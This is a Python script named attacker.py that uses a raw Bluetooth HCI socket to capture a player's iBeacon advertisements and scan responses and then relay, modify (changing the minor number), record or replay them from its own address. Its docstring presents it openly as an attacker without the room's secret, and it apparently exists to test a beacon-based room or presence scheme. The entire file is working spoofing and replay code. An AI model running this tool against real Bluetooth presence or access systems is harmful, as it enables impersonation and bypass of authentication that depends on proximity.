"""An attacker without the room's secret, on a raw HCI socket: makes packets from those of the one player that it receives, and
sends them from an address of its own.

usage: attacker.py INDEX 4.2|5.x relay|numbers|record|replay FILE

    relay    the player's latest beacon and message, unchanged
    numbers  the same with another minor: a foreign pair of numbers under the room's UUID
    record   nothing: writes the next beacon and status to the file, and ends
    replay   those of the file

Prints `sends` and the data in hex at each change, until a signal ends it. The advertisement stays on.
"""

import signal
import socket
import struct
import sys

ADDRESS = bytes.fromhex("0302010000c0")
HANDLE = 0xEF
MAXIMUM = 31


class Controller:
    def __init__(self, index, is_extended):
        self.is_extended = is_extended
        self.socket = socket.socket(socket.AF_BLUETOOTH, socket.SOCK_RAW, socket.BTPROTO_HCI)
        # Events (type 4): command complete (0x0E) and LE (0x3E).
        events = 1 << 4, 1 << 0x0E, 1 << (0x3E - 32), 0
        self.socket.setsockopt(socket.SOL_HCI, socket.HCI_FILTER, struct.pack("<3IH2x", *events))
        self.socket.bind((index,))
        self.reports = []
        if not is_extended:
            self.command(0x2005, ADDRESS)

    def command(self, opcode, parameters):
        self.socket.send(struct.pack("<BHB", 1, opcode, len(parameters)) + parameters)
        while (event := self.receive())[1] != 0x0E or event[4:6] != struct.pack("<H", opcode):
            pass
        if event[6]:
            sys.exit(f"{opcode:04x}: status {event[6]:02x}")

    def receive(self):
        """The next event. Its report is kept: whether it is a scan response, and its data."""
        event = self.socket.recv(300)
        if event[1] == 0x3E and event[3] == 0x02:
            self.reports.append((event[5] == 4, event[14 : 14 + event[13]]))
        elif event[1] == 0x3E and event[3] == 0x0D:
            self.reports.append((event[5] & 8 != 0, event[29 : 29 + event[28]]))
        return event

    def report(self):
        """The next iBeacon, or the next answer to a scan request."""
        while True:
            while not self.reports:
                self.receive()
            is_response, data = self.reports.pop(0)
            if is_response or b"\x4c\x00\x02\x15" in data:
                return is_response, data

    def scan(self):
        """Actively and always (100 ms), with duplicates."""
        if self.is_extended:
            self.command(0x2041, struct.pack("<4B2H", 0, 0, 1, 1, 160, 160))
            self.command(0x2042, bytes([1, 0, 0, 0, 0, 0]))
        else:
            self.command(0x200B, struct.pack("<B2H2B", 1, 160, 160, 0, 0))
            self.command(0x200C, bytes([1, 0]))

    def prepare(self):
        """Scannable and not connectable, from the random address, every 100 ms."""
        if self.is_extended:
            interval = bytes([160, 0, 0])
            parameters = bytes([HANDLE, 0x12, 0]) + 2 * interval + bytes([7, 1]) + bytes(8)
            self.command(0x2036, parameters + bytes([0x7F, 1, 0, 1, 0, 0]))
            self.command(0x2035, bytes([HANDLE]) + ADDRESS)
        else:
            self.command(0x2006, struct.pack("<2H3B6x2B", 160, 160, 2, 1, 0, 7, 0))

    def send(self, is_response, data):
        if self.is_extended:
            opcode, head = 0x2038 if is_response else 0x2037, bytes([HANDLE, 3, 1, len(data)])
        else:
            opcode, head = 0x2009 if is_response else 0x2008, bytes([len(data)])
            data = data.ljust(MAXIMUM, b"\0")
        self.command(opcode, head + data)
        print("sends", data.hex(), flush=True)

    def enable(self):
        if self.is_extended:
            self.command(0x2039, bytes([1, 1, HANDLE, 0, 0, 0]))
        else:
            self.command(0x200A, bytes([1]))


def main(index, version, attack, file):
    controller = Controller(int(index), version == "5.x")
    if attack != "replay":
        controller.scan()
    if attack != "record":
        controller.prepare()
        controller.enable()
    packets = {}
    if attack == "replay":
        with open(file) as lines:
            for line in lines:
                is_response, data = line.split()
                controller.send(is_response == "True", bytes.fromhex(data))
        signal.pause()
    while attack != "record" or len(packets) < 2:
        is_response, data = controller.report()
        # The kind of a message is not sealed; 0 is a status.
        if attack == "record" and is_response and data[5] & 7:
            continue
        if attack == "numbers" and not is_response:
            data = data[:-2] + bytes([data[-2] ^ 1]) + data[-1:]
        if packets.get(is_response) != data:
            packets[is_response] = data
            if attack != "record":
                controller.send(is_response, data)
    with open(file, "w") as lines:
        for is_response, data in packets.items():
            print(is_response, data.hex(), file=lines)


if len(sys.argv) != 5:
    sys.exit(__doc__)
main(*sys.argv[1:])
